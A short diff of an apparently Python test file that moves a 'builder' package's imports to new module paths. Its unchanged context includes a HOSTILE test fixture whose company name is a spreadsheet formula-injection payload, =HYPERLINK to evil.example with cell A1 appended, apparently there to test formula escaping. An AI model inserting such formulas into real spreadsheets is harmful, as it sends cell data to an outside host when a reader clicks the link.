@@ -5,9 +5,9 @@ import openpyxl
 import pytest
 import yaml
 
-from builder.build import build
-from builder.loader import default_example, parse
-from builder.summary import md_text
+from builder.commands.build import build
+from builder.assumptions.loader import default_example, parse
+from builder.render.summary import md_text
 
 HOSTILE = {
     "company_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
